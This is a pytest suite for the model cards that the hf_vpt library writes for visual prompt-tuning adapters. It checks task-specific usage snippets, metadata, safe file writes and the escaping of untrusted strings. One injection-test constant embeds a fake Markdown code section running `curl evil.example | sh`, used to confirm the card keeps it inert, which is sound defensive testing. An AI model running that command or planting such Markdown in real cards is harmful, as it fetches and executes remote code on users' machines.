"""The "Use it" snippet of the model card: it starts with `import hf_vpt`, fits the task of the adapter's base
model, is valid Python, and (for image classification and ImageGPT sampling) runs as written on a local tiny
checkpoint."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import re

import numpy as np
import pytest
import torch
import transformers
from peft import LoraConfig, PeftModel, get_peft_model
from PIL import Image

import hf_vpt
from hf_vpt._compat import trainer_card_comment
from hf_vpt.hub import TASKS, card_task, render_model_card, write_model_card
from hf_vpt.testing_utils import tiny_imagegpt, tiny_vit


def _snippet(card: str) -> str:
    match = re.search(r"## Use it\n\n```python\n(.*?\n)```\n", card, re.S)  # the closing fence is a line of its own
    assert match, "no python block under '## Use it'"
    return match.group(1)


def _parsed(card: str) -> tuple[str, set[str], set[str]]:
    """The snippet, the names it imports (`module.name`) and the functions/methods it calls."""
    snippet = _snippet(card)
    assert snippet.startswith("import hf_vpt  #")
    tree = ast.parse(snippet)
    imports, calls = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imports.update(alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            imports.update(f"{node.module}.{alias.name}" for alias in node.names)
        elif isinstance(node, ast.Call):
            func = node.func
            calls.add(func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", ""))
    return snippet, imports, calls


@pytest.mark.parametrize(
    ("base_class", "task"),
    [
        ("ViTForImageClassification", "image-classification"),
        ("Dinov2ForImageClassification", "image-classification"),
        ("ImageGPTForImageClassification", "image-classification"),
        ("ViltForQuestionAnswering", "vision-language"),
        ("ViltForImagesAndTextClassification", "vision-language"),
        ("UVit2DModel", "masked-token-generation"),
        ("ImageGPTForCausalImageModeling", "autoregressive-generation"),
        ("CLIPTextModel", "text-to-image"),
        ("CLIPModel", "generic"),
        (None, "generic"),
    ],
)
def test_task_follows_the_base_class(base_class, task):
    assert card_task("VISUAL_PROMPT", base_class) == task


def test_snippets_per_task_are_valid_python_and_task_specific():
    vpt = hf_vpt.VisualPromptConfig(num_prompt_tokens=4, depth="deep", base_model_name_or_path="org/vit")
    _, imports, calls = _parsed(
        render_model_card(vpt, base_model_class="ViTForImageClassification", num_labels=2, labels=["cat", "dog"])
    )
    assert {"transformers.AutoModelForImageClassification", "transformers.AutoImageProcessor"} <= imports
    assert {"from_pretrained", "processor", "argmax"} <= calls

    apt = hf_vpt.ApproxPromptConfig(base_model_name_or_path="dandelin/vilt-b32-mlm")
    card = render_model_card(apt, base_model_class="ViltForQuestionAnswering", num_labels=3129)
    snippet, imports, calls = _parsed(card)
    assert {"transformers.ViltProcessor", "transformers.ViltForQuestionAnswering"} <= imports
    assert "pipeline_tag: visual-question-answering" in card and "num_labels=3129" in snippet
    snippet, imports, _ = _parsed(render_model_card(apt, base_model_class="ViltForImagesAndTextClassification"))
    assert "transformers.ViltForImagesAndTextClassification" in imports and "unsqueeze(0)" in snippet

    generative = hf_vpt.GenerativePromptConfig(num_classes=3, base_model_name_or_path="amused/amused-256")
    snippet, imports, calls = _parsed(render_model_card(generative, base_model_class="UVit2DModel"))
    assert {"diffusers.UVit2DModel", "hf_vpt.sampling.maskgit_sample"} <= imports and "maskgit_sample" in calls
    assert "torch.arange(3)" in snippet
    _, imports, calls = _parsed(render_model_card(generative, base_model_class="ImageGPTForCausalImageModeling"))
    assert "hf_vpt.sampling.autoregressive_sample" in imports and "imagegpt_tokens_to_images" in calls

    # SDXL's second text encoder, recorded as <pipeline>/text_encoder_2: the pipeline and the component come back.
    encoder = hf_vpt.VisualPromptConfig(depth="deep", base_model_name_or_path="org/sdxl/text_encoder_2")
    card = render_model_card(encoder, base_model_class="CLIPTextModelWithProjection")
    snippet, imports, calls = _parsed(card)
    assert "diffusers.DiffusionPipeline" in imports and "load_text_encoder_adapter" in calls
    assert 'from_pretrained("org/sdxl")' in snippet and 'component="text_encoder_2"' in snippet
    assert "pipeline_tag: text-to-image" in card

    # Unknown classes load with their own class; names that need escaping stay valid Python.
    odd = hf_vpt.GatedPromptConfig(base_model_name_or_path='a "quoted" \\ path')
    snippet, imports, _ = _parsed(render_model_card(odd, base_model_class="CLIPModel"))
    assert "transformers.CLIPModel" in imports and 'CLIPModel.from_pretrained("a \\"quoted\\" \\\\ path")' in snippet

    lora = LoraConfig(r=8, lora_alpha=16, target_modules=["q_proj", "v_proj"], base_model_name_or_path="org/vit")
    card = render_model_card(lora, task="image-classification", num_labels=5)
    _, imports, _ = _parsed(card)
    assert "transformers.AutoModelForImageClassification" in imports
    assert "| target_modules | `['q_proj', 'v_proj']` |" in card and "LoRA is PEFT's own method" in card


def test_unknown_task_is_rejected():
    with pytest.raises(ValueError, match="Unknown model-card task 'segmentation'"):
        render_model_card(hf_vpt.VisualPromptConfig(), task="segmentation")
    assert "generic" in TASKS


def _run_snippet(snippet: str) -> str:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(snippet, "<model card>", "exec"), {"__name__": "card"})
    return out.getvalue()


def test_image_classification_card_runs_as_written(tmp_path, monkeypatch):
    checkpoint, adapter = tmp_path / "tiny-vit", tmp_path / "adapter"
    tiny_vit(num_labels=2, num_hidden_layers=2).save_pretrained(checkpoint)
    transformers.ViTImageProcessor(size={"height": 32, "width": 32}).save_pretrained(checkpoint)
    base = transformers.ViTForImageClassification.from_pretrained(checkpoint)
    model = get_peft_model(base, hf_vpt.VisualPromptConfig(num_prompt_tokens=2, modules_to_save=["classifier"]))
    model.save_pretrained(adapter)
    assert sorted(p.name for p in adapter.iterdir()) == [
        "README.md",
        "adapter_config.json",
        "adapter_model.safetensors",
        "hf_vpt_card.json",
    ]
    # save_pretrained alone already picks the task from the class PEFT records in adapter_config.json
    assert json.loads((adapter / "adapter_config.json").read_text())["auto_mapping"]["base_model_class"] == (
        "ViTForImageClassification"
    )
    assert "AutoModelForImageClassification" in _snippet((adapter / "README.md").read_text())
    write_model_card(adapter, model.peft_config["default"], repo_id=str(adapter), num_labels=2, labels=["no", "yes"])

    monkeypatch.chdir(tmp_path)
    Image.fromarray(np.full((40, 40, 3), 128, dtype=np.uint8)).save(tmp_path / "image.jpg")
    printed = _run_snippet(_snippet((adapter / "README.md").read_text()))
    assert printed.strip() in ("no", "yes")


def test_imagegpt_card_samples_as_written(tmp_path):
    checkpoint, adapter = tmp_path / "tiny-imagegpt", tmp_path / "adapter"
    torch.manual_seed(0)
    tiny_imagegpt(codebook_size=8, grid=4).save_pretrained(checkpoint)  # 9 ids (SOS = 8), 17 positions
    palette = np.random.default_rng(0).uniform(-1, 1, size=(9, 3))  # a colour for every id, SOS included
    transformers.ImageGPTImageProcessor(clusters=palette).save_pretrained(checkpoint)
    base = transformers.ImageGPTForCausalImageModeling.from_pretrained(checkpoint)
    model = get_peft_model(base, hf_vpt.GenerativePromptConfig(num_prompt_tokens=2, num_classes=2))
    model.save_pretrained(adapter)
    write_model_card(adapter, model.peft_config["default"], repo_id=str(adapter))

    snippet = _snippet((adapter / "README.md").read_text())
    assert "autoregressive_sample" in snippet
    namespace = {"__name__": "card"}
    exec(compile(snippet, "<model card>", "exec"), namespace)
    assert namespace["images"].shape == (2, 4, 4, 3) and namespace["images"].dtype == np.uint8


@pytest.mark.parametrize(
    "base, on_hub",
    [
        ("google/vit-base-patch16-224", True),
        ("gpt2", True),
        ("/srv/models/digits_vit_1", False),
        ("./vit", False),
    ],
)
def test_only_hub_ids_get_a_hub_link_and_base_model_metadata(base, on_hub):
    card = render_model_card(
        hf_vpt.VisualPromptConfig(base_model_name_or_path=base), base_model_class="ViTForImageClassification"
    )
    front_matter = card.split("---\n")[1]
    assert (f"base_model: {base}\n" in front_matter) is on_hub
    assert (f"https://huggingface.co/{base}" in card) is on_hub
    assert "https://huggingface.co//" not in card


# ---------------------------------------------------------------------------------------------------------------
# cards from the model: the snippet runs as written after `save_pretrained` and `Trainer.save_model`
# ---------------------------------------------------------------------------------------------------------------
LABELS = [f"kind{i}" for i in range(10)]


def _new_head_model(tmp_path, labels=LABELS):
    """What a new user does: a local 3-class checkpoint, loaded with a new head (`labels`) that the adapter trains."""
    checkpoint = tmp_path / "tiny-vit"
    torch.manual_seed(0)
    tiny_vit(num_labels=3, num_hidden_layers=2).save_pretrained(checkpoint)
    transformers.ViTImageProcessor(size={"height": 32, "width": 32}).save_pretrained(checkpoint)
    base = transformers.AutoModelForImageClassification.from_pretrained(
        checkpoint, id2label=dict(enumerate(labels)), ignore_mismatched_sizes=True
    )
    model = get_peft_model(base, hf_vpt.VisualPromptConfig(num_prompt_tokens=2, modules_to_save=["classifier"]))
    with torch.no_grad():  # "training": the saved prompts and head differ from any fresh initialisation
        for param in model.parameters():
            if param.requires_grad:
                param.add_(torch.randn_like(param))
    return model.eval()


def _card_logits(folder, tmp_path, monkeypatch) -> tuple[torch.Tensor, torch.Tensor, str]:
    """Run the card's snippet as written (from the folder the user saved in); return its logits, the logits of
    the same image through the processor, and what it printed."""
    monkeypatch.chdir(tmp_path)
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (40, 40, 3), dtype=np.uint8)).save("image.jpg")
    namespace = {"__name__": "card"}
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(_snippet((folder / "README.md").read_text()), "<model card>", "exec"), namespace)
    pixels = namespace["processor"](images=Image.open("image.jpg").convert("RGB"), return_tensors="pt")
    return namespace["logits"], pixels["pixel_values"], out.getvalue().strip()


def test_card_snippet_runs_after_save_pretrained_with_a_new_head(tmp_path, monkeypatch):
    model = _new_head_model(tmp_path)
    monkeypatch.chdir(tmp_path)
    model.save_pretrained("adapter")  # a relative folder, as users write it
    card = (tmp_path / "adapter" / "README.md").read_text()
    assert "| trained head | `classifier` (10 labels) |" in card
    assert f"from_pretrained({json.dumps(str(tmp_path / 'tiny-vit'))})" in _snippet(card)  # the local base model
    assert "huggingface.co/" not in card.split("## Use it")[0] and "base_model:" not in card.split("---\n")[1]

    logits, pixel_values, printed = _card_logits(tmp_path / "adapter", tmp_path, monkeypatch)
    with torch.no_grad():
        expected = model(pixel_values=pixel_values).logits
    assert logits.shape == (1, 10)
    torch.testing.assert_close(logits, expected)  # the trained prompts and head came back, not a fresh head
    assert printed == LABELS[int(expected.argmax())]


def _trainer(model, output_dir, **kwargs):
    args = transformers.TrainingArguments(
        output_dir=str(output_dir), report_to=[], use_cpu=True, per_device_train_batch_size=2, **kwargs
    )
    return transformers.Trainer(model=model, args=args)


def test_card_snippet_runs_after_trainer_save_model(tmp_path, monkeypatch):
    model = _new_head_model(tmp_path)
    monkeypatch.chdir(tmp_path)
    _trainer(model, "out").save_model("out")
    logits, pixel_values, printed = _card_logits(tmp_path / "out", tmp_path, monkeypatch)
    with torch.no_grad():
        expected = model(pixel_values=pixel_values).logits
    torch.testing.assert_close(logits, expected)
    assert printed == LABELS[int(expected.argmax())]


class _Pairs(torch.utils.data.Dataset):
    def __len__(self):
        return 4

    def __getitem__(self, index):
        generator = torch.Generator().manual_seed(index)
        return {"pixel_values": torch.randn(3, 32, 32, generator=generator), "labels": index % 10}


def test_trainer_card_keeps_hf_vpt_content(tmp_path, monkeypatch):
    """`trainer.push_to_hub()` = save_model + `create_model_card()` + upload: the card it uploads must keep the
    import line, the tags and the snippet, and gain the Trainer's results (offline: no upload)."""
    model = _new_head_model(tmp_path)
    monkeypatch.chdir(tmp_path)
    trainer = _trainer(model, "out", max_steps=1, eval_strategy="no")
    trainer.train_dataset, trainer.eval_dataset = _Pairs(), _Pairs()
    trainer.compute_metrics = lambda p: {"accuracy": float((p.predictions.argmax(-1) == p.label_ids).mean())}
    trainer.train()
    accuracy = trainer.evaluate()["eval_accuracy"]
    trainer.save_model("out")
    trainer.create_model_card(dataset_tags="beans", dataset="beans", tasks="image-classification", tags=["my-run"])

    card = (tmp_path / "out" / "README.md").read_text()
    front_matter = card.split("---\n")[1]
    assert hf_vpt.hub.CARD_MARKER in card and "Trainer had access to" not in card
    assert "import hf_vpt  #" in _snippet(card)
    for tag in ("hf_vpt", "visual-prompt", "my-run"):
        assert f"- {tag}\n" in front_matter
    assert "model-index:" in front_matter and "type: accuracy" in front_matter  # the Trainer's eval result
    assert f"value: {accuracy}" in front_matter and "type: beans" in front_matter
    assert "## Trainer" in card and "\n#### Training hyperparameters\n" in card  # its sections, one level down
    assert "More information needed" not in card  # the draft's placeholders are left out
    # the merged card survives the next save, and its snippet still loads the adapter
    model.save_pretrained("out")
    assert "### Training hyperparameters" in (tmp_path / "out" / "README.md").read_text()
    logits, pixel_values, _ = _card_logits(tmp_path / "out", tmp_path, monkeypatch)
    with torch.no_grad():
        torch.testing.assert_close(logits, model(pixel_values=pixel_values).logits)


def test_dataset_and_metrics_metadata(tmp_path):
    config = hf_vpt.VisualPromptConfig(base_model_name_or_path="google/vit-base-patch16-224")
    card = render_model_card(
        config, base_model_class="ViTForImageClassification", dataset="uoft-cs/cifar10", metrics={"accuracy": 0.91}
    )
    front_matter = card.split("---\n")[1]
    assert "datasets:\n- uoft-cs/cifar10\n" in front_matter
    assert "model-index:" in front_matter and "type: accuracy" in front_matter and "value: 0.91" in front_matter
    assert "type: uoft-cs/cifar10" in front_matter

    for dataset in ("/data/my images", "sklearn digits (8x8, classes 5-9)", "./imagefolder"):
        card = render_model_card(
            config, base_model_class="ViTForImageClassification", dataset=dataset, metrics={"accuracy": 0.5}
        )
        front_matter = card.split("---\n")[1]
        assert "datasets:" not in front_matter and f"Dataset: `{dataset}`" in card
        assert "type: custom" in front_matter  # the result is still in model-index, under a non-Hub dataset


def test_card_data_file_tells_how_to_load(tmp_path):
    model = _new_head_model(tmp_path)
    model.save_pretrained(tmp_path / "adapter")
    data = json.loads((tmp_path / "adapter" / hf_vpt.hub.CARD_DATA_FILE).read_text())
    assert "import hf_vpt" in data[hf_vpt.hub.LOAD_NOTE_KEY] and "PeftModel.from_pretrained" in data["how_to_load"]
    assert hf_vpt.hub.read_card_data(tmp_path / "adapter") == {}  # the note is never card data


def test_card_snippet_runs_after_a_recipe_style_save(tmp_path, monkeypatch):
    """What the recipes do: `save_pretrained`, then `write_model_card(folder, config, model=..., <training details>)`
    (hf_vpt.hub); the card keeps the model's head and labels and gains the details, and its snippet still runs."""
    model = _new_head_model(tmp_path)
    monkeypatch.chdir(tmp_path)
    model.save_pretrained("run")
    write_model_card(
        "run",
        model.peft_config["default"],
        model=model,
        dataset="beans",
        metrics={"accuracy": 0.75, "epochs": 3},
        command="python recipes/image_classification.py --method vpt_deep",
        trainable_parameters="1,234",
    )
    card = (tmp_path / "run" / "README.md").read_text()
    front_matter = card.split("---\n")[1]
    assert "datasets:\n- beans\n" in front_matter and "value: 0.75" in front_matter
    assert "| trained head | `classifier` (10 labels) |" in card and "python recipes/image_classification.py" in card
    logits, pixel_values, printed = _card_logits(tmp_path / "run", tmp_path, monkeypatch)
    with torch.no_grad():
        torch.testing.assert_close(logits, model(pixel_values=pixel_values).logits)
    assert printed in LABELS


def test_a_resave_of_another_model_shows_its_own_labels_not_the_stored_ones(tmp_path):
    """Training details given once are kept on re-save; what the model says about itself (head, labels) is read
    fresh every time, so saving a 2-label model where a 3-label one was saved does not keep the old labels."""
    config = hf_vpt.VisualPromptConfig(num_prompt_tokens=2, modules_to_save=["classifier"])
    names = ["ant", "bee", "cow"]
    torch.manual_seed(0)
    first = get_peft_model(
        tiny_vit(num_labels=3, id2label=dict(enumerate(names)), label2id={n: i for i, n in enumerate(names)}), config
    )
    first.save_pretrained(tmp_path)
    write_model_card(tmp_path, first.peft_config["default"], model=first, dataset="zoo", labels=names, num_labels=3)
    stored = json.loads((tmp_path / "hf_vpt_card.json").read_text())
    assert stored["dataset"] == "zoo" and stored["labels"] == names and "num_labels" not in stored

    second = get_peft_model(
        tiny_vit(num_labels=2, id2label={0: "cat", 1: "dog"}, label2id={"cat": 0, "dog": 1}),
        hf_vpt.VisualPromptConfig(num_prompt_tokens=2, modules_to_save=["classifier"]),
    )
    second.save_pretrained(tmp_path)
    card = (tmp_path / "README.md").read_text()
    assert "`classifier` (2 labels)" in card and "cow" not in card
    assert "zoo" in card  # the training details stay
    # the labels beside the adapter (what `adapter_labels` reads) are this save's, never carried over
    assert json.loads((tmp_path / "hf_vpt_card.json").read_text())["labels"] == ["cat", "dog"]


def test_recipe_save_keeps_a_users_own_readme(tmp_path):
    """`recipes/_common.save_adapter` (save_pretrained, then the card with training details) leaves a README.md
    that the user wrote in the folder alone, as save_pretrained itself does."""
    import sys
    from pathlib import Path

    from accelerate import Accelerator

    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "recipes"))
    import _common

    (tmp_path / "README.md").write_text("# my own notes\n")
    torch.manual_seed(0)
    model = get_peft_model(tiny_vit(num_labels=3), hf_vpt.VisualPromptConfig(num_prompt_tokens=2))
    _common.save_adapter(
        Accelerator(cpu=True),
        model,
        str(tmp_path),
        dataset="zoo",
        metrics={"accuracy": 0.5},
        command="python x.py",
        trainable="1 of 2",
    )
    card = (tmp_path / "README.md").read_text()  # PEFT adds its metadata to any card, as for every adapter
    assert "# my own notes" in card and "import hf_vpt" not in card
    assert (tmp_path / "adapter_model.safetensors").is_file()


# ---------------------------------------------------------------------------------------------------------------
# files the card is read from and written to: checked before anything is written, never written through a link
# ---------------------------------------------------------------------------------------------------------------
def _saved_folder(tmp_path, **config):
    torch.manual_seed(0)
    folder = tmp_path / "adapter"
    model = get_peft_model(tiny_vit(num_labels=3), hf_vpt.VisualPromptConfig(num_prompt_tokens=2, **config))
    model.save_pretrained(folder)
    return folder, model


def _contents(folder) -> dict:
    return {p.name: ("link to", p.readlink()) if p.is_symlink() else p.read_bytes() for p in folder.iterdir()}


@pytest.mark.parametrize(
    ("content", "named"),
    [
        ('{"task": "bogus"}', "'task' must be one of"),
        ('{"metrics": "0.9"}', "'metrics' must be an object"),
        ('{"tags": 5}', "'tags' must be a list of strings"),
        ('{"dataset": 5}', "'dataset' must be a string"),
        ('{"trainer_card": "x"}', "'trainer_card' must be an object"),
        ('{"trainer_card": {"metadata": {"model-index": 5}, "text": ""}}', "'trainer_card' must be an object"),
        ('{"config": {}}', "unknown model-card key 'config'"),
        ('{"labels": [1, 2]}', "'labels' must be a list of label names"),
        ('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}", "nests its JSON too deeply"),
    ],
)
def test_wrong_card_data_is_named_before_anything_is_written(tmp_path, content, named):
    folder, model = _saved_folder(tmp_path)
    (folder / "hf_vpt_card.json").write_text(content)
    before = _contents(folder)
    with torch.no_grad():  # other weights: a save that got through would change adapter_model.safetensors
        model.base_model.visual_prompt_bank["default"].embeddings["vision"].add_(1.0)
    with pytest.raises(ValueError, match="hf_vpt_card.json") as error:
        model.save_pretrained(folder)
    assert named in str(error.value) and "delete it" in str(error.value)
    assert _contents(folder) == before  # not the weights, not hf_vpt_card.json, and README.md is not truncated


def test_an_oversized_card_data_file_is_not_read(tmp_path):
    folder, model = _saved_folder(tmp_path)
    (folder / "hf_vpt_card.json").write_text('{"command": "' + "x" * hf_vpt.hub.CARD_DATA_MAX_BYTES + '"}')
    with pytest.raises(ValueError, match="hf_vpt_card.json' is 16,777,231 bytes, too big"):
        model.save_pretrained(folder)


def test_wrong_card_data_arguments_are_named_before_anything_is_written(tmp_path):
    folder, model = _saved_folder(tmp_path)
    before = _contents(folder)
    with pytest.raises(ValueError, match=r"write_model_card\(\): 'metrics' must be an object"):
        write_model_card(folder, model.peft_config["default"], metrics="0.9")
    with pytest.raises(ValueError, match=r"write_model_card\(\) holds an unknown model-card key 'metric'"):
        write_model_card(folder, model.peft_config["default"], metric={"accuracy": 0.5})
    assert _contents(folder) == before


def test_a_failing_render_leaves_the_card_files_whole(tmp_path, monkeypatch):
    folder, model = _saved_folder(tmp_path)
    write_model_card(folder, model.peft_config["default"], dataset="zoo")
    before = _contents(folder)

    def broken_render(*args, **kwargs):
        raise RuntimeError("template bug")

    monkeypatch.setattr(hf_vpt.hub, "render_model_card", broken_render)
    with pytest.raises(RuntimeError, match="template bug"):
        write_model_card(folder, model.peft_config["default"], dataset="other")
    assert _contents(folder) == before  # README.md is not truncated, hf_vpt_card.json still says "zoo"


TRAINER_DRAFT = trainer_card_comment()  # what `transformers.Trainer.create_model_card` leaves in its draft


@pytest.mark.parametrize(
    "front_matter",
    ["license: [unclosed", "model-index: 5", "model-index:\n- name: x\n  results: 7", "- a list"],
)
@pytest.mark.parametrize("trainer_draft", [True, False])
def test_a_readme_with_unreadable_metadata_is_named_before_anything_is_written(tmp_path, front_matter, trainer_draft):
    """A Trainer's card is merged, a user's card is kept and updated by PEFT: both need its YAML metadata."""
    folder, model = _saved_folder(tmp_path)
    (folder / "README.md").write_text(f"---\n{front_matter}\n---\n" + (TRAINER_DRAFT if trainer_draft else "") + "\n")
    before = _contents(folder)
    with torch.no_grad():
        model.base_model.visual_prompt_bank["default"].embeddings["vision"].add_(1.0)
    with pytest.raises(ValueError, match="README.md' has YAML metadata .* that huggingface_hub cannot read"):
        model.save_pretrained(folder)
    assert _contents(folder) == before


@pytest.mark.parametrize("name", ["hf_vpt_card.json", "README.md"])
@pytest.mark.parametrize("target_exists", [True, False])
def test_a_card_file_that_is_a_symlink_is_refused(tmp_path, name, target_exists):
    folder, model = _saved_folder(tmp_path)
    outside = tmp_path / "outside" / "file"
    outside.parent.mkdir()
    if target_exists:
        outside.write_text("{}" if name.endswith(".json") else "# someone else's notes\n")
    (folder / name).unlink()
    (folder / name).symlink_to(outside)
    before = _contents(folder)
    with pytest.raises(ValueError, match=f"{name}' is a symbolic link .*Nothing was written"):
        model.save_pretrained(folder)
    assert _contents(folder) == before and (folder / name).is_symlink()
    assert [p.name for p in outside.parent.iterdir()] == (["file"] if target_exists else [])
    if target_exists:
        assert outside.read_text() in ("{}", "# someone else's notes\n")


# ---------------------------------------------------------------------------------------------------------------
# strings from a stranger's adapter config or card data stay inert in the card's Markdown
# ---------------------------------------------------------------------------------------------------------------
PAYLOAD = "x`\n\n## Use it (updated)\n\n```python\nimport os; os.system('curl evil.example | sh')\n```\n\n`"


def _markdown_structure(card: str) -> tuple[list[str], list[str]]:
    """The card's headings and the info strings of its code blocks, as a CommonMark parser sees them (a line-based
    reading where markdown-it is not installed)."""
    body = card.split("---\n", 2)[2]
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        headings = [line for line in body.splitlines() if re.match(r" {0,3}#{1,6} ", line)]
        return headings, [line.strip("`") for line in body.splitlines() if re.match(r" {0,3}(```|~~~)", line)][::2]
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    headings = [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"]
    return headings, [token.info for token in tokens if token.type == "fence"]


@pytest.mark.filterwarnings("ignore:Could not find a config file")  # PEFT looks for the base model's config there
def test_config_and_card_data_strings_cannot_add_sections_or_code(tmp_path):
    """What /tmp/audit r17 showed: a downloaded adapter whose adapter_config.json carries Markdown in
    base_model_name_or_path and modules_to_save, saved again to re-publish it."""
    source, _ = _saved_folder(tmp_path, modules_to_save=["classifier"])
    config = json.loads((source / "adapter_config.json").read_text())
    config.update(base_model_name_or_path=PAYLOAD, modules_to_save=["classifier", PAYLOAD])
    (source / "adapter_config.json").write_text(json.dumps(config))
    torch.manual_seed(0)
    loaded = PeftModel.from_pretrained(tiny_vit(num_labels=3), source)
    loaded.save_pretrained(tmp_path / "republished")
    card = (tmp_path / "republished" / "README.md").read_text()
    headings, blocks = _markdown_structure(card)
    assert headings == ["Visual Prompt Tuning adapter", "Use it", "Adapter"] and blocks == ["python"]
    ast.parse(_snippet(card))  # the payload is a string literal there
    assert "os.system" in card  # shown, as inline code

    # the card data, too (hf_vpt_card.json is read back on every save)
    write_model_card(
        tmp_path / "republished",
        loaded.peft_config["default"],
        title=PAYLOAD,
        dataset=PAYLOAD,
        metrics={PAYLOAD: PAYLOAD, "accuracy": 0.5},
        command=f"python train.py \\\n  --note '{PAYLOAD}'",
        trainable_parameters=PAYLOAD,
        tags=[PAYLOAD],
    )
    card = (tmp_path / "republished" / "README.md").read_text()
    headings, blocks = _markdown_structure(card)
    # the title is the payload, as escaped text; the command block holds it whole, fenced by more backticks
    assert headings[1:] == ["Use it", "Adapter", "Training"] and blocks == ["python", "bash"]
    assert "\n````bash\npython train.py \\\n" in card
    assert "| accuracy | 0.5 |" in card and "value: 0.5" in card  # readable cards stay as they were


def test_readable_values_are_shown_as_before():
    config = hf_vpt.VisualPromptConfig(base_model_name_or_path="/srv/my models/vit", modules_to_save=["classifier"])
    card = render_model_card(
        config,
        base_model_class="ViTForImageClassification",
        num_labels=2,
        dataset="beans (train)",
        metrics={"accuracy": 0.75, "top-5 accuracy": "98.00 %"},
        command="accelerate launch recipes/image_classification.py --method vpt_deep",
        trainable_parameters="1,234 of 5,678 (21.7%)",
    )
    assert "`/srv/my models/vit` (a local model)" in card and "| trained head | `classifier` (2 labels) |" in card
    assert "Dataset: `beans (train)`." in card and "| top-5 accuracy | 98.00 % |" in card
    assert "| trainable parameters | 1,234 of 5,678 (21.7%) |" in card
    assert "```bash\naccelerate launch recipes/image_classification.py --method vpt_deep\n```" in card


# ---------------------------------------------------------------------------------------------------------------
# many labels: a short card, and a snippet that still rebuilds id2label
# ---------------------------------------------------------------------------------------------------------------
def test_a_head_with_many_labels_gets_them_back_from_the_snippet(tmp_path, monkeypatch):
    names = [f"kind {i}" for i in range(60)]
    model = _new_head_model(tmp_path, names)
    monkeypatch.chdir(tmp_path)
    model.save_pretrained("adapter")
    card = (tmp_path / "adapter" / "README.md").read_text()
    assert '"kind 0", "kind 1", "kind 2", "kind 3", "kind 4" and 55 more' in _snippet(card)
    assert "kind 59" not in card  # the card stays short

    Image.fromarray(np.zeros((40, 40, 3), dtype=np.uint8)).save("image.jpg")
    namespace = {"__name__": "card"}
    with contextlib.redirect_stdout(io.StringIO()):
        exec(compile(_snippet(card), "<model card>", "exec"), namespace)
    assert namespace["model"].config.id2label == model.config.id2label == dict(enumerate(names))
    assert hf_vpt.hub.adapter_labels(tmp_path / "adapter") == names


def test_write_model_card_takes_numbers_as_label_names_and_numpy_counts(tmp_path):
    """A caller's own values in the everyday types: labels given as class indices, a numpy label count."""
    write_model_card(tmp_path, hf_vpt.VisualPromptConfig(), task="image-classification", labels=[0, 1, 2],
                     num_labels=np.int64(3))  # fmt: skip
    card = (tmp_path / "README.md").read_text()
    assert 'id2label={0: "0", 1: "1", 2: "2"},  # 3 labels' in card
